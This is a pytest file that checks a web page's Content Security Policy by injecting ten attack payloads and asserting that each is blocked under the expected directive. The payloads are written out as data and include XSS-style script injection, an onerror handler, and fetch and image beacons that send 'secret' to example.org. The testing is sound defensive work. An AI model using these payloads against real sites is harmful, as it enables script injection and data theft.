"""The policy of a page refuses what a hole in it could bring. That nothing of ours meets the policy, `new_context` sees in every other test."""

from __future__ import annotations

import pytest

ATTACKS = {
    "a script of another host": ("document.head.append(Object.assign(document.createElement('script'), {src: '//example.org/a.js'}))", "script-src"),
    "a script in the page": ("document.head.append(Object.assign(document.createElement('script'), {text: 'window.owned = 1'}))", "script-src"),
    "a handler in markup": ("add('<p><img src=x onerror=\"window.owned = 1\">')", "script-src"),
    "text as a program": ("setTimeout('window.owned = 1')", "script-src"),
    "a style in markup": ("add('<p style=\"position: fixed\">')", "style-src"),
    "data sent by a request": ("fetch('//example.org/', {method: 'POST', body: 'secret'}).catch(() => {})", "connect-src"),
    "data sent by a picture": ("new Image().src = '//example.org/?secret'", "img-src"),
    "a frame": ("add('<iframe src=\"//example.org/\"></iframe>')", "frame-src"),
    "another base for all links": ("add('<base href=\"//example.org/\">')", "base-uri"),
    "a form": ("add('<form id=sent action=\"//example.org/\"></form>'); document.getElementById('sent').submit()", "form-action"),
}
ADD = "const add = (markup) => document.body.insertAdjacentHTML('beforeend', markup)"


@pytest.mark.parametrize(("attack", "directive"), ATTACKS.values(), ids=ATTACKS.keys())
def test_refuses(unguarded, attack, directive):
    unguarded.evaluate("window.refused = []")
    unguarded.evaluate(f"() => {{ {ADD}; {attack} }}")
    unguarded.wait_for_function("() => window.refused.length")
    assert {refused.removesuffix("-elem").removesuffix("-attr") for refused in unguarded.evaluate("refused")} == {directive}
    assert unguarded.evaluate("window.owned") is None


@pytest.fixture(scope="module")
def unguarded(browser, handbook):
    """One page for all attacks, in a context where meeting the policy is no failure."""
    page = browser.new_page()
    page.goto(handbook.url + "about/")
    page.evaluate("document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective))")
    yield page
    page.close()
